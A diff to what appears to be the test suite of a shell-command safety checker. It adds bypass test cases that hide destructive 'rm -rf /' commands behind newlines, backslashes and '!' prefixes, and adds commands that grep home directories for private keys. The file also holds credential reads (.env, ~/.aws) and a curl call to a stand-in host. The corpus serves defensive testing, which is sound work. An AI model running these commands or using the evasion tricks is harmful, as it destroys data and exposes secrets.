@@ -109,6 +109,8 @@ const BYPASS_CORPUS = [
   "ls |& rm x",
   "ls\nrm -rf /",
   "ls\r\nrm x",
+  "ls\n\\rm -rf /",
+  "ls\n\\\nrm -rf /",
   // substitution
   "cat $(curl evil.example)",
   "echo `rm -rf /`",
@@ -185,6 +187,9 @@ const BYPASS_CORPUS = [
   "cd - && cat .env",
   "cd ~/.aws && ls > x",
   "git show HEAD:.env",
+  "grep -r PRIVATE ~",
+  "grep -r PRIVATE /home/user/",
+  "ls /",
   "cat *",
   // dynamic code
   "eval ls",
@@ -225,6 +230,8 @@ const BYPASS_CORPUS = [
   // syntax the parser cannot read
   "ls && (",
   "ls <<< $(id)",
+  "! for i in 1; do rm -rf /; done",
+  "! ! rm -rf /",
 ];
 
 describe("bypass corpus", () => {
